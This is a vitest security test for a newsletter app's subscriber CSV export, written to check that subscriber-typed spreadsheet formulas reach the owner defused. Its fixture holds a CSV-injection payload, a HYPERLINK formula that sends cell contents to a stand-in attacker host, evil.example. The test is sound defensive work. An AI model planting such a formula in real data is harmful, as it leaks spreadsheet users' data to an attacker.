import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONSOLE_API } from '../../../src/validation/console/console-api.ts';
import { SUBSCRIBERS_ROUTE } from '../../../src/validation/newsletter/subscribers.protocol.ts';
import { addPerson, consoleHeaders, type TestPerson } from '../helpers/console-people.ts';
import { testNewsletterForms } from '../helpers/newsletter-requests.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

// Review of issue 28 (attack): "for a mailing service" leaves every cell unguarded, although
// only SMS (+27…, cleaned by subscribe.ts) needs it. FIRSTNAME is whatever a visitor typed on
// the public form (subscribe.ts keeps attributes verbatim). The file is a .csv download; an
// owner who opens it (double-click) runs the subscriber's formula. Rows and columns cannot be
// injected (reports/csv.ts quotes , " CR LF), but formulas can.

let test: TestApp;
let owner: TestPerson;
const PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A3&B3,"Open")';

beforeAll(async () => {
  test = await createTestApp({ SITE_URL: 'https://news.example.co.za' }, { newsletterForms: testNewsletterForms });
  owner = await addPerson(test.app, { email: 'owner@example.co.za', role: 'owner' });
  const at = new Date().toISOString();
  await test.app.db
    .insertInto('newsletter_subscribers')
    .values({ email: 'attacker@example.net', status: 'subscribed', lists: '[2]', sms: '+27825550123', attributes: JSON.stringify({ FIRSTNAME: PAYLOAD }), dates: '{}', form_id: 1, created_at: at, updated_at: at, confirmed_at: at, unsubscribed_at: null, confirmation_sent_at: null })
    .execute();
});
afterAll(() => test.cleanup());

describe('review i28: the mailing-service export', () => {
  it('keeps SMS as +27… but does not hand a subscriber-typed formula to the owner unguarded', async () => {
    const response = await test.app.inject({ url: `${CONSOLE_API}${SUBSCRIBERS_ROUTE.exportMailingService}`, headers: consoleHeaders(test.app, owner.cookie) });
    expect(response.statusCode).toBe(200);
    console.log(JSON.stringify(response.body));
    const [, row] = response.body.split('\r\n');
    expect(row).toMatch(/,\+27825550123$/);
    // The FIRSTNAME cell must not start (after CSV unquoting) with a formula character.
    expect(row).not.toMatch(/^attacker@example\.net,"?=/);
  });
});
